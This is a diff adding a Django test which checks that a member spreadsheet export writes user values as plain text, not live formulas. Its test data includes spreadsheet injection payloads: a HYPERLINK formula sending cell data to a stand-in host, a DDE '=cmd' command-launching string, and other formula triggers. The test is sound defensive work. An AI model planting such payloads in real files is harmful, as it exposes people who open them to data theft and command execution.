@@ -312,6 +312,37 @@ class SpreadsheetTests(TestCase):
         assert sheet.freeze_panes == "A2"
         assert sheet["B2"].font.name == "Times New Roman"
 
+    def test_the_export_writes_every_user_value_as_text_never_a_formula(self) -> None:
+        """Issue 9: =HYPERLINK(...), =cmd|... and =1+1 went out as live formulas."""
+        hostile = [
+            '=HYPERLINK("http://x.example/?"&A1,"Bấm")',
+            "=cmd|' /C calc'!A0",
+            "=1+1",
+            "+1+1",
+            "-2+3",
+            "@SUM(A1)",
+        ]
+        member = Member.objects.get(member_number="KT-0001")
+        for i, value in enumerate(hostile):
+            # As such values may already be in the database: written past the services.
+            Member.objects.create(
+                unit=member.unit,
+                full_name=value,
+                gender=member.gender,
+                position=value,
+                member_number=f"F-{i}",
+                workplace="\x01Phòng\x00 1",
+            )
+        book = load_workbook(io.BytesIO(self.download("member_export")))
+        sheet = book.active
+        assert sheet is not None
+        cells = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
+        for value in hostile:
+            name, position = cells[value][1], cells[value][10]
+            assert (name.data_type, name.value, name.quotePrefix) == ("s", value, True)
+            assert (position.data_type, position.value) == ("s", value)
+        assert cells["=1+1"][11].value == "Phòng 1"  # control characters left out, not a 500
+
     def test_the_export_follows_the_lists_search(self) -> None:
         book = load_workbook(io.BytesIO(self.download("member_export", "?q=vong")))
         assert [r[1] for r in book.active.iter_rows(min_row=2, values_only=True)] == [  # type: ignore[union-attr]
